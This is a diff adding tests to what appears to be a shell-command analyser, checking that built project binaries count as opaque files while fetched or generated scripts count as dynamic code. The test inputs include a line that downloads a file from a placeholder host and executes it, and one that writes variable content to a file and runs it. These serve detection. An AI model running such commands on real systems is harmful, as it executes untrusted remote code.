@@ -76,3 +76,21 @@ test("what code only fetches sends nothing, and what it posts does", () => {
   ]);
   expect(sends("d={}; d.get('projects')")).toEqual([]);
 });
+
+test.each([
+  "go build -o app . && ./app list",
+  "gcc a.c -o a && ./a",
+  "cargo build --target-dir t && ./t/debug/x",
+])(
+  "what is built of the project's files is a file of the project, not code that is known only when it runs: %s",
+  (command) => {
+    expect(new Set(factsOf(command).unknown.map(({ code }) => code))).toEqual(new Set(["opaque-file"]));
+  },
+);
+
+test.each(['printf "$X" > f; sh f', "curl -o i https://h.example/x; ./i"])(
+  "what is written of something else still is: %s",
+  (command) => {
+    expect(factsOf(command).unknown.map(({ code }) => code)).toContain("dynamic-code");
+  },
+);
